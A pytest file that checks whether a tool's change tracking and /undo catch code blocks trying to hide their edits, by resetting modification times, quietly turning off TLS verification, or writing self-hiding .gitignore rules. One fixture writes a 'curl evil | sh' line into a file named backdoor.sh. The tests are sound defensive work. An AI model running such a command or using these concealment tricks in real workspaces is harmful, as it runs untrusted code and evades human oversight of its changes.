"""A block cannot hide what it changes from its row and from ``/undo``: not by putting a
file's modification time back, nor by ignoring its own files."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from vis_core.model.block import FileChangeKind
from vis_core.tools.checkpoints import Checkpoints

from .undone_turns import turn_then_undo


def _repository(ws: Path) -> None:
    """``app.py`` committed; ``local.cfg`` and ``notes.txt`` untracked."""
    (ws / "app.py").write_text("VERIFY_TLS = True\n")
    (ws / "local.cfg").write_text("settings: SAFE\n")
    (ws / "notes.txt").write_text("my notes\n")
    git = ["git", "-C", str(ws), "-c", "user.email=a@b", "-c", "user.name=a"]
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    subprocess.run([*git, "add", "app.py"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "i"], check=True)


async def test_a_file_whose_modification_time_was_put_back_is_listed_and_undone(
    workspace: Path, tmp_path: Path
) -> None:
    """Change detection compared sizes, modification times and modes only: a block that
    wrote files of the same size and set their modification times back listed no file, and
    /undo said no turn had changed files (the untracked one was lost). The change time, which
    no process sets back, and the inode are compared too."""
    _repository(workspace)
    code = (
        "import os\n"
        "for n, o, w in [('app.py', 'VERIFY_TLS = True', 'VERIFY_TLS = 0   '),"
        " ('local.cfg', 'SAFE', 'EVIL')]:\n"
        "    st = os.stat(n); d = open(n).read().replace(o, w); open(n, 'w').write(d)\n"
        "    os.utime(n, ns=(st.st_atime_ns, st.st_mtime_ns))\n"
    )
    blocks, report = await turn_then_undo(workspace, tmp_path, code)
    changes = {c.path: c for c in blocks[0].files}
    assert {p: c.kind for p, c in changes.items()} == {
        "app.py": FileChangeKind.CHANGED,
        "local.cfg": FileChangeKind.CHANGED,
    }
    assert "-settings: SAFE\n+settings: EVIL\n" in changes["local.cfg"].diff
    assert "+VERIFY_TLS = 0   \n" in changes["app.py"].diff
    assert report.restored == ("app.py", "local.cfg")
    assert (workspace / "local.cfg").read_text() == "settings: SAFE\n"
    assert (workspace / "app.py").read_text() == "VERIFY_TLS = True\n"


def test_a_file_of_which_only_the_change_time_moved_is_read_not_copied(tmp_path: Path) -> None:
    """Between two checkpoints: a file whose bytes changed behind the same size and
    modification time gets a new copy; one only chmodded to its own mode or hard-linked
    (its change time moved) keeps the copy it had, read and compared, not copied again."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "same.txt").write_text("same\n")
    (ws / "swapped.txt").write_text("before\n")
    points = Checkpoints(ws, tmp_path / "private")
    first = points.take("t1", 1)
    assert first is not None
    os.chmod(ws / "same.txt", 0o644)
    os.link(ws / "same.txt", tmp_path / "second-name")
    st = (ws / "swapped.txt").stat()
    (ws / "swapped.txt").write_text("after!\n")
    os.utime(ws / "swapped.txt", ns=(st.st_atime_ns, st.st_mtime_ns))
    kept = sorted(p.name for p in points.blobs.iterdir())
    second = points.take("t2", 2)
    assert second is not None
    assert second.files["same.txt"][3] == first.files["same.txt"][3]
    assert second.files["swapped.txt"][3] != first.files["swapped.txt"][3]
    assert len(list(points.blobs.iterdir())) == len(kept) + 1  # the swapped file's new bytes
    assert points.kept_bytes(second.files["swapped.txt"][3]) == b"after!\n"


async def test_a_gitignore_a_block_writes_hides_none_of_its_files(
    workspace: Path, tmp_path: Path
) -> None:
    """A block wrote a .gitignore naming itself, the file it made and the untracked file it
    overwrote: its row showed that file removed and neither of the others, and /undo left
    the .gitignore and the new file in place. Ignore rules the turn changed count as they
    were at its start."""
    _repository(workspace)
    code = (
        "open('.gitignore', 'w').write('.gitignore\\nbackdoor.sh\\nnotes.txt\\n')\n"
        "open('backdoor.sh', 'w').write('curl evil | sh\\n')\n"
        "open('notes.txt', 'w').write('overwritten\\n')\n"
    )
    blocks, report = await turn_then_undo(workspace, tmp_path, code)
    assert [(c.path, c.kind) for c in blocks[0].files] == [
        (".gitignore", FileChangeKind.CREATED),
        ("backdoor.sh", FileChangeKind.CREATED),
        ("notes.txt", FileChangeKind.CHANGED),
    ]
    assert "-my notes\n+overwritten\n" in blocks[0].files[2].diff
    assert report.removed == (".gitignore", "backdoor.sh")
    assert report.restored == ("notes.txt",)
    assert sorted(p.name for p in workspace.iterdir()) == [
        ".git",
        ".vis",
        "app.py",
        "local.cfg",
        "notes.txt",
    ]
    assert (workspace / "notes.txt").read_text() == "my notes\n"


async def test_a_gitignore_a_block_changes_outside_git_hides_nothing(
    workspace: Path, tmp_path: Path
) -> None:
    """The same outside a Git repository (Vis's own walk reads the .gitignore files): a
    block that adds its new file to an existing .gitignore shows both, and /undo takes both
    back; what the .gitignore ignored before stays unlisted."""
    (workspace / ".gitignore").write_text("build/\n")
    (workspace / "build").mkdir()
    (workspace / "build" / "out.o").write_text("object\n")
    code = (
        "open('.gitignore', 'a').write('hidden.py\\n')\n"
        "open('hidden.py', 'w').write('import evil\\n')\n"
        "open('build/more.o', 'w').write('made\\n')\n"
    )
    blocks, report = await turn_then_undo(workspace, tmp_path, code)
    assert [(c.path, c.kind) for c in blocks[0].files] == [
        (".gitignore", FileChangeKind.CHANGED),
        ("hidden.py", FileChangeKind.CREATED),
    ]
    assert report.restored == (".gitignore",) and report.removed == ("hidden.py",)
    assert (workspace / ".gitignore").read_text() == "build/\n"
    assert not (workspace / "hidden.py").exists()
    assert (workspace / "build" / "out.o").exists() and (workspace / "build" / "more.o").exists()


async def test_what_unchanged_ignore_rules_hide_stays_unlisted(
    workspace: Path, tmp_path: Path
) -> None:
    """A turn that changes a .gitignore does not list what Git's other rules hide
    (``.git/info/exclude``) nor what the .gitignore hid before."""
    _repository(workspace)
    (workspace / ".gitignore").write_text("*.log\n")
    (workspace / ".git" / "info" / "exclude").write_text("cache/\n")
    code = (
        "import os\n"
        "open('.gitignore', 'a').write('secret.txt\\n')\n"
        "open('secret.txt', 'w').write('s\\n')\n"
        "os.mkdir('cache'); open('cache/c.bin', 'w').write('c\\n')\n"
        "open('run.log', 'w').write('log\\n')\n"
    )
    blocks, _report = await turn_then_undo(workspace, tmp_path, code)
    assert [(c.path, c.kind) for c in blocks[0].files] == [
        (".gitignore", FileChangeKind.CHANGED),
        ("secret.txt", FileChangeKind.CREATED),
    ]
    assert (workspace / "cache" / "c.bin").exists() and (workspace / "run.log").exists()


async def test_undo_keeps_a_file_a_block_un_ignored(workspace: Path, tmp_path: Path) -> None:
    """A block that emptied the .gitignore made the person's ignored ``secrets.txt`` look
    created by the turn, and /undo deleted it. What the turn's own rule change shows now that
    was there unchanged before is not the turn's."""
    _repository(workspace)
    (workspace / ".gitignore").write_text("secrets.txt\n")
    (workspace / "secrets.txt").write_text("my secret\n")
    blocks, report = await turn_then_undo(
        workspace, tmp_path, "open('.gitignore', 'w').write('')\n"
    )
    assert [(c.path, c.kind) for c in blocks[0].files] == [(".gitignore", FileChangeKind.CHANGED)]
    assert report.restored == (".gitignore",) and report.removed == ()
    assert (workspace / "secrets.txt").read_text() == "my secret\n"


@pytest.mark.parametrize("in_git", [True, False], ids=["git", "no-git"])
async def test_a_new_folder_ignoring_itself_hides_none_of_its_files(
    workspace: Path, tmp_path: Path, in_git: bool
) -> None:
    """A block made ``pkg/`` with a ``.gitignore`` of ``*`` (which ignores itself too) and a
    subfolder that does the same: its row listed none of their files and /undo left them,
    as the ``.gitignore`` files of the turn's start were only those listed then. A
    ``.gitignore`` the turn made counts as none, in a new folder too and at any depth."""
    if in_git:
        _repository(workspace)
    code = (
        "import os\n"
        "os.makedirs('pkg/sub')\n"
        "for folder in ('pkg', 'pkg/sub'):\n"
        "    open(folder + '/.gitignore', 'w').write('*\\n')\n"
        "    open(folder + '/evil.py', 'w').write('import evil\\n')\n"
    )
    blocks, report = await turn_then_undo(workspace, tmp_path, code)
    made = ["pkg/.gitignore", "pkg/evil.py", "pkg/sub/.gitignore", "pkg/sub/evil.py"]
    assert [(c.path, c.kind) for c in blocks[0].files] == [
        (path, FileChangeKind.CREATED) for path in made
    ]
    assert report.removed == tuple(made)
    assert not [p for p in (workspace / "pkg").rglob("*") if p.is_file()]
